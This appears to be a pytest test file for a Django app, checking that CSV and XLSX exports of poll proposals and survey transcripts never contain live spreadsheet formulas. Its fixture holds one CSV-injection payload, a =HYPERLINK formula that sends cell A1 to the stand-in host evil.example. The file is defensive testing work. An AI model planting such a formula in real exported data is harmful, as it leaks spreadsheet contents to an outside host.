"""Every spreadsheet download, driven through its real URL: a resident's poll proposal, a survey answer's
transcript, each starting with U+0001 before `=HYPERLINK(...)` and holding a control character, never
becomes a live formula, and never makes the export fail."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from balint.meetings.models import Proposal, Vote
from balint.surveys.models import Answer, Question, Transcript
from balint.surveys.tests.factories import add_members, answer, make_survey

HOSTILE = '\x01=HYPERLINK("http://evil.example/?leak="&A1,"Open")\x07 and a bell'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(world):
    proposal = Proposal.objects.create(
        meeting=world.past_meeting, author=world.resident, focus="balint_case", title=HOSTILE
    )
    Vote.objects.create(meeting=world.past_meeting, person=world.other_resident, proposal=proposal)
    (extra,) = add_members(world.group, 1)
    survey = make_survey(world.group, min_answers=3)
    for person in (world.resident, world.other_resident, extra):
        answer(survey, person, text=HOSTILE)
    for open_answer in Answer.objects.filter(response__survey=survey, question__kind=Question.Kind.OPEN):
        Transcript.objects.create(answer=open_answer, text=HOSTILE, approved=True)
    return survey


def _cells(response) -> list:
    assert response.status_code == 200, response.status_code
    if response["Content-Type"].startswith("text/csv"):
        rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
        return [(cell, "s") for row in rows for cell in row]
    book = load_workbook(io.BytesIO(response.getvalue()))
    return [(c.value, c.data_type) for ws in book.worksheets for row in ws.iter_rows() for c in row]


def _assert_inert(response) -> None:
    cells = _cells(response)
    texts = [str(value) for value, _ in cells if value is not None]
    assert any("HYPERLINK" in text for text in texts), "the hostile text is not in the export at all"
    for value, data_type in cells:
        assert data_type != "f"
        text = "" if value is None else str(value)
        assert not text.startswith(FORMULA_STARTS), text
        assert "\x01" not in text and "\x07" not in text


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
@pytest.mark.parametrize("key", ["polls", "transcripts"])
def test_the_exchange_tables_hold_no_live_formula(client, world, hostile, key, extension):
    client.force_login(world.leader.user)
    _assert_inert(client.get(reverse("exchange:table", args=[world.program.slug, key, extension])))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_survey_transcripts_download_holds_no_live_formula_and_does_not_fail(client, world, hostile, fmt):
    client.force_login(world.leader.user)
    _assert_inert(client.get(reverse("surveys:export", args=[hostile.code, fmt])))


def test_the_api_table_holds_no_live_formula(client, world, hostile):
    client.force_login(world.leader.user)
    _assert_inert(client.get(f"/api/v1/programs/{world.program.slug}/tables/transcripts.csv"))
